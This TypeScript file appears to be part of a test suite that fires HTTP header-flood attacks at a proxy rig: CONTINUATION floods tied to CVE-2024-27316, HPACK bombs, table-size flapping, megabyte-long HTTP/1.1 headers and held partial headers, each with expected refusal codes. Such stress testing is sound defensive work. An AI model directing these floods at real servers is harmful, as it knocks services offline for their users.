/** Heads that are too long, never end, or unpack to more than they are (CVE-2024-27316, CVE-2016-6581, CVE-2019-9516). */
import { frame, FrameType, getBlock, literalBlock } from "../support/h2_frames.ts";
import type { Attack, Scale } from "./_attack.ts";
import { H2Wire } from "./_h2_wire.ts";
import { hpackBomb } from "./_hostile_app.ts";
import type { Place, Rig } from "./_rig.ts";
import type { Wire } from "./_wire.ts";

const HTTP2_PLACES = ["outbound", "inbound", "mesh"] as const;
const HTTP1_PLACES = ["outbound", "inbound"] as const;
const END_STREAM = 1;
const END_HEADERS = 4;
/** Fields of some 16 KB, without an end. */
const FILLER = literalBlock(Array.from({ length: 140 }, (_, at): [string, string] => [`x-${at}`, "v".repeat(100)]));

/** Starts HTTP/2 on so many connections, one after the other, and does something with each. */
async function onEach(rig: Rig, place: Place, count: number, act: (peer: H2Wire) => Promise<unknown>): Promise<void> {
  for (let at = 0; at < count; at++) {
    using peer = await H2Wire.start(await rig.open(place, "http2"));
    await act(peer);
    await Promise.race([peer.wire.closed, Bun.sleep(50)]);
  }
}

const continuations = (place: Place): Attack => ({
  name: "CONTINUATION without an end: 16 KB each, on 100 connections",
  place,
  boundMb: 30,
  refusals: ["head_too_large"],
  run: (rig, scale) =>
    onEach(rig, place, scale.of(100, 5), async (peer) => {
      await peer.send(frame(FrameType.HEADERS, 0, 1, getBlock("/", "web")));
      await peer.flood(1_000, () => frame(FrameType.CONTINUATION, 0, 1, FILLER), 10);
    }),
});

const emptyContinuations = (place: Place): Attack => ({
  name: "empty CONTINUATIONs: 1,000,000",
  place,
  boundMb: 30,
  refusals: ["head_too_large"],
  run: (rig, scale) =>
    onEach(rig, place, 1, async (peer) => {
      await peer.send(frame(FrameType.HEADERS, 0, 1, getBlock("/", "web")));
      await peer.flood(scale.of(1_000_000, 10_000), () => frame(FrameType.CONTINUATION, 0, 1), 5_000);
    }),
});

/** Sends one header block over and over, each as a request of its own. */
const blocks = (place: Place, name: string, block: Buffer, count: number, refusals: readonly string[]): Attack => ({
  name,
  place,
  boundMb: 40,
  refusals,
  isAbsorbedWhenSmall: true,
  async run(rig, scale) {
    using peer = await H2Wire.start(await rig.open(place, "http2"));
    const flags = END_HEADERS | END_STREAM;
    const sent = await peer.flood(scale.of(count, 200), () => frame(FrameType.HEADERS, flags, peer.id(), block), 50);
    await Promise.race([peer.wire.closed, Bun.sleep(2_000)]);
    return `${sent} sent`;
  },
});

/** The table is emptied and opened again, as often as a frame can say it. */
const FLAPPING = Buffer.concat([
  Buffer.concat(Array.from({ length: 3_000 }, () => Buffer.from([0x20, 0x3f, 0xe1, 0x1f]))),
  getBlock("/", "web"),
]);

const longHeads = (place: Place): Attack => ({
  name: "heads of 1 MB with 100,000 fields: 200 connections",
  place,
  boundMb: 40,
  refusals: ["head_too_large"],
  async run(rig, scale) {
    const head = `GET / HTTP/1.1\r\nhost: web\r\n${"a: bcdef\r\n".repeat(100_000)}\r\n`;
    for (let at = 0; at < scale.of(200, 10); at++) {
      using wire = await rig.open(place, "http1");
      await wire.send(head);
      await Promise.race([wire.closed, Bun.sleep(10)]);
    }
  },
});

/** Opens connections, sends each the beginning of a head, and holds them. */
async function hold(
  rig: Rig,
  place: Place,
  count: number,
  isHttp2: boolean,
  scale: Scale,
  bytes: Buffer,
): Promise<string> {
  const wires: Wire[] = [];
  for (let at = 0; at < count; at++) {
    const wire = await rig.open(place, isHttp2 ? "http2" : "http1");
    if (isHttp2) await H2Wire.start(wire);
    await wire.send(bytes);
    wires.push(wire);
  }
  await Bun.sleep(scale.of(2_000, 300));
  const open = wires.filter((wire) => !wire.isClosed).length;
  for (const wire of wires) wire.close();
  return `${open} of ${count} were still open`;
}

const heldHttp1 = (place: Place): Attack => ({
  name: "5,000 heads of 60 KB without an end",
  place,
  boundMb: 160,
  refusals: ["memory_share"],
  isAbsorbedWhenSmall: true,
  run: (rig, scale) =>
    hold(
      rig,
      place,
      scale.of(5_000, 50),
      false,
      scale,
      Buffer.from(`GET / HTTP/1.1\r\nhost: web\r\nx-a: ${"b".repeat(60_000)}`),
    ),
});

const heldHttp2 = (place: Place): Attack => ({
  name: "2,000 header blocks of 60 KB without an end",
  place,
  boundMb: 160,
  refusals: ["memory_share"],
  isAbsorbedWhenSmall: true,
  run: (rig, scale) => {
    const rest = Buffer.concat([FILLER.subarray(0, 15_000)]);
    const frames = Buffer.concat([
      frame(FrameType.HEADERS, 0, 1, rest),
      frame(FrameType.CONTINUATION, 0, 1, rest),
      frame(FrameType.CONTINUATION, 0, 1, rest),
      frame(FrameType.CONTINUATION, 0, 1, rest).subarray(0, 14_000),
    ]);
    return hold(rig, place, scale.of(2_000, 50), true, scale, frames);
  },
});

export const HEADER_FLOODS: readonly Attack[] = [
  ...HTTP2_PLACES.flatMap((place) => [
    continuations(place),
    emptyContinuations(place),
    blocks(place, "HPACK bomb: 50,000 blocks of 12,000 references to 4 KB", hpackBomb(12_000), 50_000, ["flood"]),
    blocks(place, "table size changed 6,000 times in each of 10,000 blocks", FLAPPING, 10_000, ["protocol_error"]),
    heldHttp2(place),
  ]),
  ...HTTP1_PLACES.flatMap((place) => [longHeads(place), heldHttp1(place)]),
];
